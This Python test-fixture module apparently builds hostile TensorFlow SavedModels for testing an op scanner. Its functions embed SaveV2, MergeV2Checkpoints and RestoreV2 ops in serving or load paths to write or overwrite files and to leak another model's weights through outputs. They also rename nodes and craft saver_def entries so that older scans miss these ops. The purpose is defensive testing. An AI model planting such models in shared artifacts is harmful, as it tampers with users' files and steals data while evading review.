"""Hostile SavedModels that abuse checkpoint I/O (SaveV2, RestoreV2, MergeV2Checkpoints)
or the TF1 loading path, for tests/test_opscan.py.

Every TF2 export legitimately holds SaveV2/RestoreV2 in its saver functions, which
tf.saved_model.load never runs; these models put the same ops where the loader or a
signature call does run them, with a path baked into the graph, and disguise that with
the only things an older scan trusted: the saver_def and top-level node names (neither
is used by tf.saved_model.load). Each builder writes a SavedModel folder at `path` and
returns it. The hostile ops are traced for the export, never run by the builders.
Loaded with a plain tf.saved_model.load and called, each really does what it says
(tests/test_opscan.py proves it in a tmp folder).
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any, Callable

from tests.hostile_models import _image_spec, _logits, _out, _tf, export_module

SERVING = "serving_default"
# The key tf.train.Checkpoint(w=...) gives the variable `w` (victim checkpoints in tests).
VICTIM_KEY = "w/.ATTRIBUTES/VARIABLE_VALUE"


def _save_v2(prefix: str, value: Any) -> Any:
    tf = _tf()
    return tf.raw_ops.SaveV2(prefix=prefix, tensor_names=["pwned"], shape_and_slices=[""], tensors=[value])


def _after(op: Any, x: Any) -> dict[str, Any]:
    """The usual logits, computed only once `op` has run."""
    tf = _tf()
    with tf.control_dependencies([op]):
        return _out(tf.identity(x))


def _export_signature_only(path: Path, body: Callable[[Any], Any]) -> Path:
    """Like hostile_models.export_module, but the function is reachable only as the
    serving signature (no module attribute keeps a second copy of it)."""
    tf = _tf()
    module = tf.Module()
    module.w = tf.Variable(tf.zeros([10]))
    serve = tf.function(body, input_signature=[_image_spec()])
    tf.saved_model.save(module, str(path), signatures={SERVING: serve.get_concrete_function()})
    return Path(path)


def _edit_meta_graph(path: Path, edit: Callable[[Any], None]) -> Path:
    from tensorflow.core.protobuf import saved_model_pb2

    pb = Path(path) / "saved_model.pb"
    saved = saved_model_pb2.SavedModel()
    saved.ParseFromString(pb.read_bytes())
    edit(saved.meta_graphs[0])
    pb.write_bytes(saved.SerializeToString())
    return Path(path)


def _serving_call_node(meta_graph: Any) -> str:
    """The top-level graph node that calls the serving signature's function."""
    tensor = next(iter(meta_graph.signature_def[SERVING].outputs.values())).name
    return tensor.split(":")[0]


def _rename_nodes(meta_graph: Any, renames: dict[str, str]) -> None:
    """Rename top-level graph nodes, fixing node inputs and signature_def tensor names
    (saver_def deliberately left alone)."""

    def fixed(ref: str) -> str:
        control, name = ("^", ref[1:]) if ref.startswith("^") else ("", ref)
        base, colon, port = name.partition(":")
        return control + renames.get(base, base) + colon + port

    for node in meta_graph.graph_def.node:
        node.name = renames.get(node.name, node.name)
        node.input[:] = [fixed(ref) for ref in node.input]
    for signature in meta_graph.signature_def.values():
        for info in [*signature.inputs.values(), *signature.outputs.values()]:
            info.name = fixed(info.name)


def _drop_restore_call(meta_graph: Any) -> str:
    """Remove the graph_def node the saver_def names as the restore op, and the saver
    function only it calls (tf.saved_model.load needs neither); return the node's name."""
    graph = meta_graph.graph_def
    name = meta_graph.saver_def.restore_op_name
    (node,) = [n for n in graph.node if n.name == name]
    graph.node.remove(node)
    (function,) = [f for f in graph.library.function if f.signature.name == node.attr["f"].func.name]
    graph.library.function.remove(function)
    return name


def serving_calls_savev2_renamed_node(path: Path, target_prefix: str) -> Path:
    """The serving signature writes a checkpoint at `target_prefix` (SaveV2); its call
    node in the graph_def is renamed to the saver_def's restore op name, after dropping
    the exporter's restore node and function, so the saver_def names it as the saver."""
    _export_signature_only(path, lambda x: _after(_save_v2(target_prefix, _tf().reduce_mean(x)), x))

    def disguise(meta_graph: Any) -> None:
        serving = _serving_call_node(meta_graph)
        _rename_nodes(meta_graph, {serving: _drop_restore_call(meta_graph)})
        assert _serving_call_node(meta_graph) == meta_graph.saver_def.restore_op_name

    return _edit_meta_graph(path, disguise)


def serving_calls_restorev2_crafted_saver_def(path: Path, source_prefix: str, tensor_name: str = VICTIM_KEY) -> Path:
    """The serving signature reads tensor `tensor_name` of another network's checkpoint at
    `source_prefix` (RestoreV2) and leaks its first 10 values through the logits (all zero
    images give exactly them); the saver_def names the serving call node as its restore op
    (the exporter's restore node and function are dropped: tf.saved_model.load needs neither)."""
    tf = _tf()

    def leak(x: Any) -> dict[str, Any]:
        (secret,) = tf.raw_ops.RestoreV2(
            prefix=source_prefix, tensor_names=[tensor_name], shape_and_slices=[""], dtypes=[tf.float32]
        )
        flat = tf.reshape(secret, [-1])[:10]
        return {"logits": _logits(x) + tf.pad(flat, [[0, 10 - tf.size(flat)]])}

    _export_signature_only(path, leak)

    def disguise(meta_graph: Any) -> None:
        _drop_restore_call(meta_graph)
        meta_graph.saver_def.restore_op_name = _serving_call_node(meta_graph)

    return _edit_meta_graph(path, disguise)


# Reading another network's weights and leaking them through the outputs is builder 2.
reads_file_via_restore = serving_calls_restorev2_crafted_saver_def


def writes_outside_scratch(path: Path, target_prefix: str, *, merge: bool = False) -> Path:
    """The serving signature writes a checkpoint at the absolute `target_prefix`: with
    SaveV2 straight there or, with `merge`, staged beside it and moved over it with
    MergeV2Checkpoints (how a reference's checkpoint gets overwritten)."""
    if not os.path.isabs(target_prefix):
        raise ValueError(f"target_prefix must be absolute: {target_prefix!r}")
    tf = _tf()

    def write(x: Any) -> dict[str, Any]:
        staged = f"{target_prefix}.staged" if merge else target_prefix
        op = _save_v2(staged, tf.reduce_mean(x))
        if merge:
            with tf.control_dependencies([op]):
                op = tf.raw_ops.MergeV2Checkpoints(
                    checkpoint_prefixes=[staged], destination_prefix=target_prefix, delete_old_dirs=False
                )
        return _after(op, x)

    return export_module(path, write)


def tf1_format_model(path: Path, target_prefix: str) -> Path:
    """A TF1 SavedModel (tf.compat.v1 Builder, no object graph) whose saver restore op,
    which tf.saved_model.load runs while loading, also calls a library function that
    writes a checkpoint at `target_prefix` (SaveV2). Its signature is an ordinary one."""
    tf = _tf()
    graph = tf.Graph()
    with graph.as_default():
        images = tf.compat.v1.placeholder(tf.float32, [None, 28, 28, 1], name="images")
        w = tf.Variable(tf.zeros([10]), name="w")
        logits = tf.identity(_logits(images) + w, name="logits")

        @tf.function
        def drop_file() -> Any:
            with tf.control_dependencies([_save_v2(target_prefix, tf.constant("pwned"))]):
                return tf.constant(0.0)

        saver = tf.compat.v1.train.Saver([w])
        restore = graph.get_operation_by_name(saver.saver_def.restore_op_name)
        # Through the call's output: a call op that is only a control input is inlined
        # without its side effects (the traced function has no control_ret).
        written = tf.identity(drop_file(), name="written")
        saver.saver_def.restore_op_name = tf.group(restore, written.op, name="restore_all_and_write").name
        with tf.compat.v1.Session(graph=graph) as session:
            session.run(w.initializer)
            builder = tf.compat.v1.saved_model.Builder(str(path))
            signature = tf.compat.v1.saved_model.predict_signature_def({"images": images}, {"logits": logits})
            builder.add_meta_graph_and_variables(
                session, ["serve"], signature_def_map={SERVING: signature}, saver=saver
            )
            builder.save()
    return Path(path)
